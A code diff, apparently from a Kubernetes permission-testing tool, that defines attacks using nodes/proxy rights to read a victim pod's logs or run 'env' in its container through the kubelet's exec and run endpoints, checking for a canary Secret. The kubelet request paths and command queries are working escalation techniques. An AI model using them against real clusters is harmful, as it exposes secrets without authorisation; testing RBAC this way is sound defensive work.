@@ -1,13 +1,15 @@
 import type { Attack } from "./attack.ts";
-import { runVictim, stream, VICTIM } from "./streams.ts";
-import type { Stage } from "./stage.ts";
+import { askKubelet, askThroughApiServer, canaryIn, execAtKubelet, run, shell } from "./real.ts";
+import { runVictim, VICTIM } from "./streams.ts";
+import { nodeOf, type Stage } from "./stage.ts";
 
-/** The API of the kubelet behind the API server, for the victim's container. */
-function kubelet({ machine, namespace }: Stage, what: string): string {
-  return `/api/v1/nodes/${machine.node}/proxy/${what}/${namespace}/${VICTIM}/main`;
+/** A container on the real node that has the Secret. */
+async function runReal(stage: Stage): Promise<void> {
+  await run(stage, { containers: [shell("sleep 10000")] });
 }
 
-const EXEC = "?command=printenv&command=PASSWORD&output=1";
+/** Runs a command without a stream: a POST that is answered with the output. */
+const RUN = ({ namespace }: Stage): string => `/run/${namespace}/${VICTIM}/main?cmd=env`;
 
 export const attacks: Attack[] = [
   {
@@ -15,16 +17,34 @@ export const attacks: Attack[] = [
     how: "get: the log of a pod that has printed the Secret",
     rights: (stage) => [stage.everywhere("get", "nodes/proxy", stage.machine.node)],
     arrange: (stage) => runVictim(stage),
-    attack: async (stage) => String(await stage.send("GET", kubelet(stage, "containerLogs"))),
+    attack: async (stage) => {
+      const path = `/api/v1/nodes/${stage.machine.node}/proxy/containerLogs/${stage.namespace}/${VICTIM}/main`;
+      return String(await stage.send("GET", path));
+    },
   },
-  ...["GET", "POST"].map((method): Attack => {
-    const verb = method === "GET" ? "get" : "create";
-    return {
-      edge: "nodes-proxy",
-      how: `${verb}: a command in a container that has the Secret`,
-      rights: (stage) => [stage.everywhere(verb, "nodes/proxy", stage.machine.node)],
-      arrange: (stage) => runVictim(stage),
-      attack: (stage) => stream(stage, method, kubelet(stage, "exec") + EXEC),
-    };
-  }),
+  {
+    edge: "nodes-proxy",
+    // Through the API server an upgrade arrives without its query, and so without a command.
+    how: "get: a command in a container that has the Secret, by a websocket to the kubelet's port",
+    onRealNode: true,
+    rights: (stage) => [stage.everywhere("get", "nodes/proxy", nodeOf(stage).name)],
+    arrange: runReal,
+    attack: async (stage) => canaryIn(stage, await execAtKubelet(stage, "command=env&output=1")),
+  },
+  {
+    edge: "nodes-proxy",
+    how: "create: a command in a container that has the Secret, at the kubelet's port",
+    onRealNode: true,
+    rights: (stage) => [stage.everywhere("create", "nodes/proxy", nodeOf(stage).name)],
+    arrange: runReal,
+    attack: async (stage) => canaryIn(stage, await askKubelet(stage, "POST", RUN(stage))),
+  },
+  {
+    edge: "nodes-proxy",
+    how: "create: a command in a container that has the Secret, through the API server",
+    onRealNode: true,
+    rights: (stage) => [stage.everywhere("create", "nodes/proxy", nodeOf(stage).name)],
+    arrange: runReal,
+    attack: async (stage) => canaryIn(stage, await askThroughApiServer(stage, "POST", RUN(stage))),
+  },
 ];
